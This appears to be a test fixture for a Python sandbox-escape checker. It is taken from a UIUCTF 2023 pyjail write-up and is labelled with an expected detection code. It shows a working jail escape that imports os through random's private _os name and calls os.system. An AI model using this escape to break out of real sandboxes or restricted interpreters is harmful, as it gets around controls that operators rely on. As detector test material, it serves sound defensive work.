# Escape: random keeps os under the private name _os (random.Random.__init__.__globals__['_os'].system); import it directly
# Source: https://github.com/nikosChalk/ctf-writeups/blob/6ea86ad80853dfeef2511397713db4b6df9f4773/uiuctf23/pyjail/rattler-read/writeup/README.md
# Expect: OC105

from random import _os

_os.system("id")
